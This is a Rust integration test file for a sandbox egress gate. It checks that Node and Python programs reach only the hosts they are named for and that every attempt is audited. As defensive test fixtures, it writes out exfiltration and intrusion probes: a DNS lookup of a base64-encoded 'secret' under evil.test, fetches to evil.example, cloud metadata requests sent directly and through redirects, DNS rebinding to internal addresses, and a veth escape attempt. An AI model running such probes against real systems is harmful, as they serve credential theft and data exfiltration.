//! The egress gate before unmodified programs: what they reach, what they are told, and what is recorded of it.
//!
//! In each test somebody listens wherever a program must not come to, so that it is the gate that keeps it away.
#![cfg(target_os = "linux")]

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::TcpListener;
use std::process::{Child, ChildStdout, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::thread;

use portcullis_tests::agent::Agent;
use portcullis_tests::gateway::Gateway;
use portcullis_tests::hosting::hostile;
use portcullis_tests::process::Background;
use portcullis_tests::scenario::text;
use portcullis_tests::toolbox;
use portcullis_tests::wait::{self, PATIENCE};
use portcullis_tests::world::{METADATA, NAMES, NEWER, OTHER, PUBLIC, Sandbox, World};
use serde_json::{Value, json};

/// What an attempt of the sandbox came to, as one line.
fn told(attempt: &Value) -> String {
    assert_eq!((&attempt["method"], &attempt["server"]), (&json!("egress"), &json!("probe")), "{attempt}");
    said(attempt)
}

fn said(attempt: &Value) -> String {
    let text = |key: &str| attempt[key].as_str().unwrap_or_default();
    let parts = [text("decision"), text("name"), text("upstream_name"), text("rule"), text("error")];
    parts.into_iter().filter(|part| !part.is_empty()).collect::<Vec<_>>().join(" | ")
}

/// Waits for these attempts, in whichever order they were over.
#[track_caller]
fn assert_told(sandbox: &Sandbox, expected: &[impl AsRef<str>]) {
    let mut found: Vec<_> = sandbox.attempts(expected.len()).iter().map(told).collect();
    let mut expected: Vec<_> = expected.iter().map(AsRef::as_ref).collect();
    found.sort();
    expected.sort_unstable();
    assert_eq!(found, expected);
}

/// Fetches with Node, and returns each answer or the code of the error.
fn node_fetches(sandbox: &Sandbox, urls: &[&str]) -> Vec<String> {
    let program = format!(
        "for (const url of {urls:?}) {{
            try {{ console.log(await (await fetch(url)).text()); }}
            catch (error) {{ console.log(error.cause?.code ?? error.message); }}
        }}"
    );
    sandbox.node(&program).lines().map(str::to_owned).collect()
}

/// Fetches with Python, and returns each answer or the error.
fn python_fetches(sandbox: &Sandbox, urls: &[&str]) -> Vec<String> {
    let program = format!(
        "
import urllib.request
for url in {urls:?}:
    try:
        print(urllib.request.urlopen(url, timeout=30).read().decode())
    except urllib.error.URLError as error:
        print(getattr(error.reason, 'strerror', error))
    except OSError as error:
        print(error.strerror)
"
    );
    sandbox.python(&program).lines().map(str::to_owned).collect()
}

#[test]
fn what_is_named_is_reached_by_programs_that_know_of_no_gate() {
    let world = World::make();
    let sandbox =
        world.sandbox(&["--place", "api.test:80", "--place", "api.test:443", "--place", "*.wild.test:443"]);
    let urls = ["http://api.test/", "https://api.test/", "https://a.wild.test/"];
    let hello = ["hello from api.test", "hello from api.test", "hello from a.wild.test"];
    assert_eq!(node_fetches(&sandbox, &urls), hello);
    assert_eq!(python_fetches(&sandbox, &urls), hello);
    let expected = [
        format!("allowed | api.test:80 | {PUBLIC}:80 | servers.probe.host.network: api.test:80"),
        format!("allowed | api.test:443 | {PUBLIC}:443 | servers.probe.host.network: api.test:443"),
        format!("allowed | a.wild.test:443 | {PUBLIC}:443 | servers.probe.host.network: *.wild.test:443"),
    ];
    assert_told(&sandbox, &[&expected[..], &expected[..]].concat());
    let all = sandbox.attempts(6);
    assert!(all.iter().all(|attempt| attempt["result_bytes"].as_u64() > Some(100)), "{all:#?}");
    let verified = sandbox.audit(&["verify"]);
    assert_eq!(verified.code(), Some(0), "{}{}", verified.stdout, verified.stderr);
    let found = sandbox.audit(&["query", "--server", "probe", "--tool", "api.test:443", "--json"]);
    assert_eq!(found.stdout.lines().count(), 2, "{}", found.stdout);
}

#[test]
fn a_name_that_nobody_named_is_not_found() {
    let world = World::make();
    let sandbox = world.sandbox(&["--place", "api.test:443"]);
    assert_eq!(node_fetches(&sandbox, &["https://other.test/", "http://other.test/"]), ["ENOTFOUND"; 2]);
    assert_eq!(python_fetches(&sandbox, &["https://other.test/"]), ["Name or service not known"]);
    let denied = "denied | other.test | no place of the server's network has this name";
    assert_told(&sandbox, &[denied; 3]);
    assert_eq!(world.asked(), [""; 0]);
}

#[test]
fn an_address_that_nobody_named_is_not_reached() {
    let world = World::make();
    let sandbox = world.sandbox(&["--place", "api.test:443"]);
    let newer = format!("[{NEWER}]");
    let urls =
        [PUBLIC, OTHER, METADATA, "127.0.0.1:9000", newer.as_str()].map(|host| format!("http://{host}/"));
    let secure = [PUBLIC, newer.as_str()].map(|host| format!("https://{host}/"));
    let urls: Vec<_> = urls.iter().chain(&secure).map(String::as_str).collect();
    let refused = ["ECONNREFUSED"; 5].into_iter().chain(["ECONNRESET"; 2]).collect::<Vec<_>>();
    assert_eq!(node_fetches(&sandbox, &urls), refused);
    let refused = ["Connection refused"; 5].into_iter().chain(["Connection reset by peer"; 2]);
    assert_eq!(python_fetches(&sandbox, &urls), refused.collect::<Vec<_>>());
    let hosts = [PUBLIC, OTHER, METADATA].map(|host| format!("{host}:80"));
    let others = [format!("{newer}:80"), format!("{PUBLIC}:443"), format!("{newer}:443")];
    let wanted = hosts.into_iter().chain(["127.0.0.1:9000".to_owned()]).chain(others);
    let reason = "an address, which no place of the server's network names";
    let denied: Vec<_> = wanted.map(|wanted| format!("denied | {wanted} | {reason}")).collect();
    assert_told(&sandbox, &[&denied[..], &denied[..]].concat());
    assert_eq!(world.asked(), [""; 0]);
}

#[test]
fn an_address_is_reached_where_it_is_named() {
    let world = World::make();
    let place = format!("{PUBLIC}:443");
    let sandbox =
        world.sandbox(&["--place", &place, "--place", "127.0.0.1:9000", "--private-place", "127.0.0.1:80"]);
    let url = format!("https://{PUBLIC}/");
    let urls = [url.as_str(), "http://127.0.0.1:9000/", "http://127.0.0.1/"];
    let hello =
        [format!("hello from {PUBLIC}"), "Connection reset by peer".into(), "hello from 127.0.0.1".into()];
    assert_eq!(python_fetches(&sandbox, &urls), hello);
    let rule = "servers.probe.host.network: ";
    let expected = [
        format!("allowed | {place} | {place} | {rule}{place}"),
        format!(
            "denied | 127.0.0.1:9000 | {rule}127.0.0.1:9000 | it leads to 127.0.0.1, which is no public address"
        ),
        format!("allowed | 127.0.0.1:80 | 127.0.0.1:80 | {rule}127.0.0.1:80"),
    ];
    assert_told(&sandbox, &expected);
}

#[test]
fn a_redirect_leads_nowhere_else() {
    let world = World::make();
    let sandbox = world.sandbox(&["--place", "api.test:80", "--place", "api.test:443"]);
    let secrets = format!("http://api.test/to?http://{METADATA}/latest/meta-data/");
    let urls = ["http://api.test/to?https://api.test/", "https://api.test/to?https://other.test/", &secrets];
    assert_eq!(node_fetches(&sandbox, &urls), ["hello from api.test", "ENOTFOUND", "ECONNRESET"]);
    let python = ["hello from api.test", "Name or service not known", "Connection reset by peer"];
    assert_eq!(python_fetches(&sandbox, &urls), python);
    let mut denied = attempts_of(&sandbox, "denied", 4);
    denied.sort();
    let name = "denied | other.test | no place of the server's network has this name".to_owned();
    let address =
        format!("denied | {METADATA}:80 | an address, which no place of the server's network names");
    assert_eq!(denied, [address.clone(), address, name.clone(), name]);
    assert!(world.asked().iter().all(|asked| asked.starts_with("api.test ")), "{:?}", world.asked());
}

/// Waits for so many attempts of one decision.
fn attempts_of(sandbox: &Sandbox, decision: &str, count: usize) -> Vec<String> {
    let query = || {
        let found = sandbox.audit(&["query", "--decision", decision, "--json"]).stdout;
        found.lines().map(|line| told(&serde_json::from_str(line).expect("JSON"))).collect::<Vec<_>>()
    };
    wait::until(PATIENCE, || Some(query()).filter(|found| found.len() >= count)).unwrap_or_else(query)
}

#[test]
fn a_name_that_comes_to_lead_inside_is_not_followed() {
    let world = World::make();
    let sandbox = world.sandbox(&["--place", "api.test:80", "--private-place", "other.test:80"]);
    // One program, so that what it remembers of a name is what it began with.
    let program = "
import http.client, sys
for line in iter(input, 'end'):
    try:
        connection = http.client.HTTPConnection(line, timeout=30)
        connection.request('GET', '/')
        print(connection.getresponse().read().decode(), flush=True)
        connection.close()
    except OSError as error:
        print(error.strerror, flush=True)
";
    let mut command = sandbox.command(&toolbox::python());
    command.args(["-c", program]);
    let mut asking = Asking::start(command);
    assert_eq!(asking.ask("api.test"), "hello from api.test");
    let mut expected =
        vec![format!("allowed | api.test:80 | {PUBLIC}:80 | servers.probe.host.network: api.test:80")];
    for inside in ["127.0.0.1", METADATA, "10.0.0.1", "::1", "::ffff:127.0.0.1", "fd00:ec2::254"] {
        world.point(&[("api.test", inside)]);
        assert_eq!(asking.ask("api.test"), "Connection reset by peer", "{inside}");
        expected.push(format!(
            "denied | api.test:80 | servers.probe.host.network: api.test:80 | it leads to {inside}, which is no public \
             address"
        ));
    }
    // A place that may be private is none of the machine's own about itself.
    world.point(&[("other.test", METADATA)]);
    assert_eq!(asking.ask("other.test"), "Connection reset by peer");
    let other = "servers.probe.host.network: other.test:80";
    expected
        .push(format!("denied | other.test:80 | {other} | it leads to {METADATA}, where no place may be"));
    world.point(&[("other.test", "127.0.0.1")]);
    assert_eq!(asking.ask("other.test"), "hello from other.test");
    expected.push(format!("allowed | other.test:80 | 127.0.0.1:80 | {other}"));
    world.point(&NAMES);
    assert_eq!(asking.ask("api.test"), "hello from api.test");
    expected.push(expected[0].clone());
    assert_told(&sandbox, &expected);
    assert_eq!(world.asked().len(), 3);
}

/// A program that answers a line with a line.
struct Asking {
    process: Child,
    answers: BufReader<ChildStdout>,
}

impl Asking {
    fn start(mut command: Command) -> Self {
        let mut process =
            command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("it can be started");
        let answers = BufReader::new(process.stdout.take().expect("a pipe"));
        Self { process, answers }
    }

    fn ask(&mut self, question: &str) -> String {
        let input = self.process.stdin.as_mut().expect("a pipe");
        writeln!(input, "{question}").expect("it takes questions");
        let mut answer = String::new();
        self.answers.read_line(&mut answer).expect("it answers");
        answer.trim_end().to_owned()
    }
}

impl Drop for Asking {
    fn drop(&mut self) {
        self.process.kill().ok();
        self.process.wait().ok();
    }
}

#[test]
fn another_port_is_refused_at_once_and_recorded() {
    let world = World::make();
    let sandbox = world.sandbox(&["--place", "api.test:443", "--place", "other.test:9000"]);
    let urls = ["http://api.test/", "http://api.test:8081/", "http://api.test:9000/"];
    assert_eq!(node_fetches(&sandbox, &urls), ["ECONNREFUSED", "ECONNREFUSED", "ECONNRESET"]);
    let reason = "the server's network has this host at another port alone";
    let denied = ["api.test:80", "api.test:8081", "api.test:9000"]
        .map(|wanted| format!("denied | {wanted} | {reason}"));
    assert_told(&sandbox, &denied);
    assert_eq!(world.asked(), [""; 0]);
}

#[test]
fn datagrams_lead_nowhere() {
    let world = World::make();
    let sandbox = world.sandbox(&["--place", "api.test:443"]);
    let newer = format!("{NEWER:?}");
    let program = format!(
        "
import socket
for family, address in ((2, ('api.test', 443)), (2, ('{PUBLIC}', 123)), (10, ({newer}, 123))):
    with socket.socket(family, socket.SOCK_DGRAM) as out:
        out.settimeout(30)
        out.connect(address)
        out.send(b'secret')
        try:
            print(out.recv(100))
        except OSError as error:
            print(error.strerror)
"
    );
    assert_eq!(sandbox.python(&program), ["Connection refused"; 3].join("\n"));
    let reason = "an address, which no place of the server's network names";
    let expected = [
        "denied | api.test:443/udp | no place is reached by UDP".to_owned(),
        format!("denied | {PUBLIC}:123/udp | {reason}"),
        format!("denied | [{NEWER}]:123/udp | {reason}"),
    ];
    assert_told(&sandbox, &expected);
}

#[test]
fn names_are_answered_by_whichever_server_is_asked_and_carry_nothing_out() {
    let world = World::make();
    let sandbox = world.sandbox(&["--place", "api.test:443"]);
    let program = "
import { Resolver } from 'node:dns/promises';
const resolver = new Resolver();
resolver.setServers(['8.8.8.8']);
for (const [name, type] of [['api.test', 'A'], ['API.test', 'A'], ['api.test', 'AAAA'], ['api.test', 'TXT'],
                            ['c2VjcmV0.evil.test', 'TXT'], ['localhost', 'A']]) {
    try { console.log(JSON.stringify(await resolver.resolve(name, type))); }
    catch (error) { console.log(error.code); }
}";
    let expected = ["[\"28.0.0.1\"]", "[\"28.0.0.1\"]", "ENODATA", "ENODATA", "ENOTFOUND", "[\"127.0.0.1\"]"];
    assert_eq!(sandbox.node(program).lines().collect::<Vec<_>>(), expected);
    let denied = "denied | c2vjcmv0.evil.test | no place of the server's network has this name";
    assert_told(&sandbox, &[denied]);
}

#[test]
fn tls_is_for_the_host_that_was_asked_for() {
    let world = World::make();
    let sandbox = world.sandbox(&["--place", "api.test:443", "--place", "api.test:8081"]);
    let program = "
import socket, ssl
def tried(port, names, first=None):
    context = ssl.create_default_context()
    context.check_hostname = False
    for name in names:
        with socket.create_connection(('api.test', port), timeout=30) as out:
            try:
                if first:
                    out.sendall(first)
                    print(out.recv(100)[:8])
                else:
                    print(context.wrap_socket(out, server_hostname=name).version())
            except OSError as error:
                print(error.strerror)
tried(443, ['api.test', 'API.TEST', 'other.test', None])
tried(443, [''], b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')
# Elsewhere it need not be TLS, but what is has to be for that host.
tried(8081, [''], b'GET / HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\n')
tried(8081, ['other.test'])
";
    let reset = "Connection reset by peer";
    let expected = ["TLSv1.3", "TLSv1.3", reset, reset, reset, "b'HTTP/1.1'", reset];
    assert_eq!(sandbox.python(program).lines().collect::<Vec<_>>(), expected);
    let reasons = [
        "its first message of TLS is for another host, other.test",
        "its first message of TLS is for another host, other.test",
        "its first message of TLS names no host",
        "what goes to port 443 has to be TLS, and this is not",
    ];
    let all = sandbox.attempts(7);
    let mut found: Vec<_> = all.iter().filter_map(|attempt| attempt["error"].as_str()).collect();
    found.sort_unstable();
    assert_eq!(found, reasons);
    assert_eq!(all.iter().filter(|attempt| attempt["decision"] == "denied").count(), 4);
    assert_eq!(world.asked(), ["api.test /"]);
}

#[test]
fn a_connection_carries_so_much_and_no_more() {
    let world = World::make();
    let sandbox = world.sandbox(&["--place", "api.test:80", "--most-bytes", "100000"]);
    let program = "
import urllib.request
for path, data in (('zeros?90000', None), ('zeros?200000', None), ('', b'x' * 200000)):
    try:
        print(len(urllib.request.urlopen('http://api.test/' + path, data, timeout=30).read()))
    except OSError as error:
        print(type(error).__name__)
";
    let said = sandbox.python(program);
    let said: Vec<_> = said.lines().collect();
    assert_eq!(said[..2], ["90000", "ConnectionResetError"], "{said:?}");
    assert!(["URLError", "ConnectionResetError"].contains(&said[2]), "{said:?}");
    let all = sandbox.attempts(3);
    let place = format!("api.test:80 | {PUBLIC}:80 | servers.probe.host.network: api.test:80");
    let cut = format!("denied | {place} | one connection may carry 100000 bytes");
    assert_told(&sandbox, &[format!("allowed | {place}"), cut.clone(), cut]);
    assert!(all.iter().all(|attempt| attempt["result_bytes"].as_u64() < Some(140_000)), "{all:#?}");
}

#[test]
fn there_are_so_many_connections_and_no_more() {
    let world = World::make();
    let sandbox = world.sandbox(&["--place", "api.test:2525", "--most-connections", "2"]);
    let program = "
import socket
def opened():
    out = None
    try:
        # A reset may come before the connection is known to be made.
        out = socket.create_connection(('api.test', 2525), timeout=30)
        return out, out.recv(8)
    except OSError as error:
        return out, error.strerror
(one, greeting), (two, other), (three, refused) = opened(), opened(), opened()
print(greeting, other, refused)
one.shutdown(socket.SHUT_WR)
print(one.recv(100), one.recv(100))
one.close()
while True:
    four, greeting = opened()
    if greeting == b'welcome\\n':
        print(greeting)
        break
";
    let said = sandbox.python(program);
    let expected = "b'welcome\\n' b'welcome\\n' Connection reset by peer\nb'0' b''\nb'welcome\\n'";
    assert_eq!(said, expected);
    let denied = attempts_of(&sandbox, "denied", 1);
    assert_eq!(denied[0], "denied | api.test:2525 | the server has 2 connections already");
}

#[test]
fn whoever_speaks_first_is_heard_and_an_end_is_passed_on() {
    let world = World::make();
    let sandbox = world.sandbox(&["--place", "api.test:2525"]);
    let program = "
import socket
with socket.create_connection(('api.test', 2525), timeout=30) as out:
    lines = out.makefile()
    print(lines.readline().strip())
    out.sendall(b'x' * 1000000)
    out.shutdown(socket.SHUT_WR)
    print(lines.read())
";
    assert_eq!(sandbox.python(program), "welcome\n1000000");
    let all = sandbox.attempts(1);
    assert_eq!(all[0]["result_bytes"], 1_000_000 + 8 + 7);
}

#[test]
fn what_nobody_answers_is_told_as_a_failure() {
    let world = World::make();
    let sandbox = world.sandbox(&["--place", "api.test:4321", "--place", "nowhere.test:443"]);
    assert_eq!(
        node_fetches(&sandbox, &["http://api.test:4321/", "https://nowhere.test/"]),
        ["ECONNRESET"; 2]
    );
    let mut found: Vec<_> = sandbox.attempts(2).iter().map(told).collect();
    found.sort();
    assert!(
        found[0].ends_with("it could not be connected to: Connection refused (os error 111)"),
        "{found:?}"
    );
    assert!(found[0].starts_with("failed | api.test:4321 | "), "{found:?}");
    assert!(found[1].contains("its name could not be resolved"), "{found:?}");
}

#[test]
fn connections_end_with_their_sandbox_and_with_their_gate() {
    let world = World::make();
    let mut sandbox = world.sandbox(&["--place", "api.test:2525"]);
    let program = "
import socket
out = socket.create_connection(('api.test', 2525), timeout=60)
print(out.recv(8), flush=True)
try:
    print(out.recv(8))
except OSError as error:
    print(error.strerror)
try:
    socket.create_connection(('127.0.0.1', 2525))
except OSError as error:
    print(error.strerror)
";
    let start = |sandbox: &Sandbox| {
        let mut command = sandbox.command(&toolbox::python());
        command.args(["-c", program]);
        let mut process = Background::start(&command);
        process.await_line("a greeting", |line| line.contains("welcome").then_some(()));
        process
    };
    let mut killed = start(&sandbox);
    killed.kill();
    let place =
        format!("allowed | api.test:2525 | {PUBLIC}:2525 | servers.probe.host.network: api.test:2525");
    assert_told(&sandbox, &[&place]);
    let mut cut = start(&sandbox);
    sandbox.close_gate();
    wait::expect("the program's end", || cut.ended().is_some());
    let log = cut.log();
    assert!(
        log == "b'welcome\\n'\nConnection reset by peer\nConnection refused"
            || log == "b'welcome\\n'\nb''\nConnection refused",
        "{log}"
    );
    // Its last connection, refused, is told where the gate still listens for refusals.
    assert_eq!(attempts_of(&sandbox, "allowed", 2), [place.clone(), place]);
}

#[test]
fn a_network_with_a_way_out_is_not_taken() {
    let world = World::make();
    let sandbox = world.sandbox(&[]);
    let program = "import subprocess; subprocess.run(['ip', 'link', 'add', 'out', 'type', 'veth'], check=True); \
                   subprocess.run(['ip', 'link', 'set', 'out', 'up'], check=True)";
    sandbox.python(program);
    let again = sandbox.open_again();
    assert_eq!(again.code(), Some(1), "{}", again.stderr);
    assert!(again.stderr.contains("this network has the interface"), "{}", again.stderr);
}

/// A server on this machine that says hello to everybody, and the heads of what it was asked.
fn greeter() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind(("127.0.0.1", 0)).expect("a free port");
    let port = listener.local_addr().expect("an address").port();
    let asked = Arc::new(Mutex::new(Vec::new()));
    let heads = asked.clone();
    thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.expect("a connection");
            let mut lines = BufReader::new(stream.try_clone().expect("a clone")).lines();
            let head = lines.by_ref().map_while(Result::ok).take_while(|line| !line.is_empty());
            heads.lock().expect("a list").extend(head.take(1).collect::<Vec<_>>());
            let answer = "HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: 5\r\n\r\nhello";
            stream.write_all(answer.as_bytes()).ok();
        }
    });
    (port, asked)
}

fn what_a_hosted_server_reaches(command: &Value, host: &Value, errors: [&str; 3]) {
    let (port, asked) = greeter();
    let (other, never) = greeter();
    let mut host = host.clone();
    host["backend"] = json!("bubblewrap");
    host["network"] = json!([{ "to": format!("localhost:{port}"), "private": true }, "api.example.com"]);
    let config =
        json!({ "version": 1, "servers": { "web": { "command": command, "host": host, "timeout": "60s" } } });
    let gateway = Gateway::start(&config.to_string());
    let agent = Agent::modern(gateway.url());
    let fetch = |url: &str| {
        let result = agent.call("web__fetch", &json!({ "url": url }));
        (text(&result).to_owned(), result["isError"] == true)
    };
    assert_eq!(fetch(&format!("http://localhost:{port}/one")), ("hello".to_owned(), false));
    let urls = [
        format!("http://127.0.0.1:{other}/"),
        "https://evil.example/".to_owned(),
        format!("http://{METADATA}/latest/meta-data/"),
    ];
    for (url, error) in urls.iter().zip(errors) {
        let (said, is_error) = fetch(url);
        assert!(is_error && said.contains(error), "{url}: {said}");
    }
    assert_eq!(*asked.lock().expect("a list"), ["GET /one HTTP/1.1"]);
    assert_eq!(*never.lock().expect("a list"), [""; 0]);
    let expected = [
        format!("allowed | localhost:{port} | 127.0.0.1:{port} | servers.web.host.network: localhost:{port}"),
        format!("denied | 127.0.0.1:{other} | an address, which no place of the server's network names"),
        "denied | evil.example | no place of the server's network has this name".to_owned(),
        format!("denied | {METADATA}:80 | an address, which no place of the server's network names"),
    ];
    let query = || {
        let found = gateway.cli(&["audit", "query", "--method", "egress", "--json"]).stdout;
        found.lines().map(|line| said(&serde_json::from_str(line).expect("JSON"))).collect::<Vec<_>>()
    };
    let found = wait::until(PATIENCE, || Some(query()).filter(|found| found.len() >= expected.len()));
    let trail = gateway.cli(&["audit", "export"]).stdout;
    let gateways =
        trail.lines().map(|line| serde_json::from_str::<Value>(line).expect("JSON")["gateway"].to_string());
    let mut gateways: Vec<_> = gateways.collect();
    gateways.sort();
    gateways.dedup();
    assert!(gateways.len() == 1 && gateways[0].len() > 2, "{gateways:?}");
    let (mut found, mut expected) = (found.unwrap_or_else(query), expected.to_vec());
    found.sort();
    expected.sort();
    assert_eq!(found, expected);
}

#[test]
fn a_hosted_server_of_node_reaches_what_its_description_names() {
    let script = toolbox::repository("tests/egress/fetch.mjs").canonicalize().expect("a file");
    let mount = json!({ "mounts": [script.clone()] });
    let errors = ["ECONNREFUSED", "ENOTFOUND", "ECONNREFUSED"];
    what_a_hosted_server_reaches(&json!([toolbox::node(), script]), &mount, errors);
}

#[test]
fn a_hosted_server_of_python_reaches_what_its_description_names() {
    let script = toolbox::repository("tests/egress/fetch.py").canonicalize().expect("a file");
    let mount = json!({ "mounts": [script.clone()] });
    let errors = ["Connection refused", "Name or service not known", "Connection refused"];
    what_a_hosted_server_reaches(&json!([toolbox::python(), script]), &mount, errors);
}

#[test]
fn a_hosted_server_keeps_no_right_of_those_that_made_its_gate() {
    let config = json!({ "version": 1, "servers": { "s": {
        "command": [hostile()], "host": { "backend": "bubblewrap", "network": ["api.example.com"] }, "timeout": "60s",
    } } });
    let gateway = Gateway::start(&config.to_string());
    let view = Agent::modern(gateway.url()).call("s__view", &json!({}));
    let view = text(&view);
    for line in ["CapEff: 0000000000000000", "NoNewPrivs: 1", "Seccomp: 2", "interfaces: lo"] {
        assert!(view.contains(line), "{line} in {view}");
    }
}
